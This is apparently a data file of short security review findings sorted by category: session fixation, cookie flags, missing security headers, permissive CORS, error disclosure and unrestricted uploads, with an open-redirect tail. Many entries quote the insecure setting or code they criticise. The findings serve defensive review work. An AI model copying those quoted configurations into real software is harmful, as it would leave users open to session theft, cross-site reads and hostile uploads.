  App's deep link handler opens the `u` parameter in the in-app browser with our logo above it. Constrain to our
    hosts.
  Logout page honours post_logout_redirect from the query unconditionally. Compare it with the registered ones.
  Language switcher jumps back to the given location unchecked, foreign pages included.
  The `next` parameter is used as the target after login without any check. Attackers can send customers a link to our
    real domain which ends on their copy of the site.
session-fixation
  Session id is kept after login. Session fixation is possible.
  session_regenerate_id is missing after authentication. An id planted beforehand becomes a logged-in one.
  reset_session before setting user_id, please. Otherwise someone who set the cookie earlier shares the session.
  Session fixation: id from URL accepted.
  sessionFixation().none() in the security config. Spring's default would migrate it.
  Anonymous and authenticated visitors keep the same sid. Issue another one whenever rights change.
  The kiosk in the waiting room hands the same cookie to patient after patient. What the first one fixed, the next one
    logs into.
  req.session.user = u without req.session.regenerate. Do it in the callback.
  An attacker sends a link with ?PHPSESSID=abc; after the victim signs in, abc is an account. use_strict_mode is off
    too.
  CWE-384 in Login.aspx: ASP.NET_SessionId unchanged across privilege boundary.
  scs: RenewToken not called on login. The library's documentation asks for it.
  Elevating to admin by a second password keeps the identifier. Rotate it at each step up.
  The game client chooses its session number itself and the server just takes it. Let the server make one at login.
  Guest cart sessions turn into customer sessions with no new identifier, so a shared computer in the shop keeps a
    door open.
  Servlet should call changeSessionId() upon success.
  cycle_key() is absent in the custom login view; Django's login() would have done it.
  The session identifier that a visitor had before logging in stays in use afterwards. Somebody who managed to plant
    it is logged in as well; create a new one as soon as authentication succeeded.
cookie-flags
  Session cookie without HttpOnly and Secure. Scripts can read it.
  Set-Cookie: sid=…; Path=/ and nothing more. HttpOnly, Secure and SameSite are needed.
  SESSION_COOKIE_SECURE = False in prod settings. The cookie goes out over plain connections, too.
  httpOnly: false on the refresh cookie. Any injected script may take it.
  SameSite missing.
  setcookie('auth', $t, 0, '/') relies on defaults. Pass the options array with secure and httponly.
  JavaScript can read the login cookie of the pharmacy portal; one XSS and accounts are gone.
  CookieSecurePolicy.SameAsRequest behind a proxy that terminates TLS. The app sees http and leaves Secure off; choose
    Always.
  Domain is set to .example.com. Every forgotten subdomain receives the session; use the __Host- prefix.
  ZAP: Cookie No HttpOnly Flag, JSESSIONID.
  http.Cookie{Name: "s", Value: v} in Go has neither of the three attributes. Fill them in.
  Remember-me token leaves the browser with requests from foreign pages. Lax would suffice.
  server.servlet.session.cookie.secure isn't set for the production profile.
  Rails session_store with secure: false, a remnant of local development.
  The tracking and the login cookie share one helper that strips all attributes, so sessions are sent in clear as
    well.
  cookies().set('jwt', token) without options in the route handler. Make it httpOnly, it is never read on the client.
  The session cookie is set without restricting it to encrypted connections and without hiding it from scripts. One
    injected script or one request over an open network is enough to lose it.
security-headers
  Security headers are missing. No CSP, HSTS or X-Frame-Options.
  The bank's pages may be put into a frame. Without frame-ancestors somebody can lay a fake button over the transfer
    form.
  No Content-Security-Policy.
  helmet is installed but never used. app.use(helmet()) before the routes.
  HSTS absent: the first visit can be held on http.
  script-src 'unsafe-inline' 'unsafe-eval' * makes the policy pointless. Use nonces.
  X-Content-Type-Options: nosniff is not sent with user files. Old browsers guess a type and may run them.
  ZAP baseline: 10020 anti-clickjacking header, 10035 Strict-Transport-Security, 10063 Permissions-Policy not set.
  Referrer-Policy is unset. Addresses with case numbers travel to the map provider.
  headers().frameOptions().disable() was for the H2 console. It now holds for everything, also in production.
  nginx add_header in a location replaces those of the server block. The static area thus lost all protective ones.
  Clickjacking on 'unlock door' page. Deny framing.
  SecurityMiddleware got commented out while upgrading Django. Put it back, first in the list.
  Report-only policy for two years now. Nothing is blocked by it; enforce it.
  CloudFront response headers policy is missing in the Terraform. Attach the managed SecurityHeadersPolicy.
  The patient portal sends neither CSP nor HSTS nor nosniff. A middleware of ten lines would do.
  Responses carry no policy that limits which scripts may run or who may embed the pages. Adding the usual set in the
    reverse proxy would lessen the effect of any injection.
cors
  CORS allows any origin with credentials. Access-Control-Allow-Origin reflects the caller.
  Any website may call the API with cookies. CORS layer mirrors the origin.
  Access-Control-Allow-Origin: * on the account API.
  The Origin is echoed back, credentials included. Any page the customer visits reads their balance.
  @CrossOrigin without arguments on the payroll controller. Name our two front ends.
  origin.endsWith("shop.com") also matches evilshop.com. Compare whole hosts.
  AllowAnyOrigin().AllowCredentials() — ASP.NET refuses that, and now SetIsOriginAllowed(_ => true) works around the
    refusal.
  CORS_ALLOW_ALL_ORIGINS = True left from development. Take the list from settings.
  `null` is among the permitted origins. Sandboxed iframes send exactly that.
  Rack::Cors: origins '*', resource '*', credentials. Too wide for the admin interface.
  gin cors.Default() allows everybody. Configure AllowOrigins from the environment.
  The inverter's local API answers to each website. A page opened by a home owner may switch off the photovoltaic
    system.
  S3 bucket's cross-origin rule permits PUT from anywhere. Only the upload page needs it.
  Regex for trusted sites has unescaped dots. `appxexample.com` is accepted.
  header("Access-Control-Allow-Origin: " . $_SERVER['HTTP_ORIGIN']) trusts whoever asks. Check against a fixed set.
  Foreign sites may call the endpoint and read its answers. Was the wildcard only meant for fonts?
  CorsLayer::very_permissive() in the axum router.
  The API reflects whatever origin the caller sends and allows credentials. Any website that a logged-in customer
    visits can read their data in the background; keep a list of our own front ends.
error-disclosure
  Stack traces are returned to the client. Internal paths and versions leak.
  500 responses contain the SQL text and the table names. Log them, answer with an id.
  e.printStackTrace(response.getWriter()). Don't.
  Django's yellow page is seen by customers. It lists settings and local variables.
  server.error.include-stacktrace=always. Attackers learn versions and class names.
  The catch-all handler returns ex.Message to the browser. Yesterday it said 'Login failed for user sa on DBPROD03'.
  display_errors = On. Warnings with absolute file locations appear above the menu of the shop.
  gRPC status carries the wrapped error chain including the DSN of Postgres. Map it to codes.Internal with a neutral
    text.
  CWE-209.
  Express default error handler without NODE_ENV=production gives the trace to callers.
  Failed payments show the raw answer of the acquirer, merchant id inclusive. Customers need a sentence, not a dump.
  Unhandled panics are formatted into the JSON of the reply. Let CatchPanicLayer answer with something neutral.
  GraphQL debug extensions are enabled; resolvers' exceptions and file positions reach mobile clients.
  A malformed barcode makes the kiosk show a Ruby backtrace to passers-by. Friendly text and correlation id are
    enough.
  The lab interface tells outsiders which Oracle release it runs, by forwarding ORA- messages.
  Raw exception text in toast. Users can't use it, intruders can.
  Exceptions are turned into responses with their message and stack trace. Callers learn about table names, library
    versions and internal hosts; return a reference number and keep the rest in the log.
upload-unrestricted
  Uploaded file type is not restricted. An executable can be uploaded and served.
  Passport scans keep the name and type the client gives. An .html file is served from our domain.
  Avatar upload takes .php. It lands under the web root and is executed on request.
  multer without limits or fileFilter. A 20 GB file fills the disk.
  The MIME type of the client is believed. Look at the magic bytes.
  Content is checked by extension only: invoice.pdf.exe would pass, as would HTML called scan.png.
  No max size on prescription photos. Set spring.servlet.multipart.max-file-size and verify image type.
  CWE-434 unrestricted upload of file with dangerous type.
  Patients can attach anything to a message. The doctor opens it with a double click; scan for malware and allow PDF
    and images only.
  [RequestSizeLimit] disabled on the asset endpoint of the level editor. Players may exhaust storage.
  ActiveStorage without validations. content_type and byte_size should be limited in the model.
  SVG logos are permitted and served from the main domain. They can carry scripts.
  Zip bomb: firmware bundles are unpacked with no ceiling on the expanded size.
  move_uploaded_file keeps the original name. `.htaccess` can be replaced; generate names.
  Anyone may use the claims form as a free file host. Types, sizes and number per customer are unbounded.
  presigned POST has no content-length-range condition. A client could store terabytes at our cost.
  FileField accepts everything. FileExtensionValidator and a size check belong on it.
  Image dimension is not looked at before decoding. A 60000×60000 PNG of a few kB takes gigabytes of memory.
  The attachment endpoint accepts files of any kind and size and serves them afterwards from the same origin. An HTML
    file uploaded there runs with the rights of whoever opens it.
"""
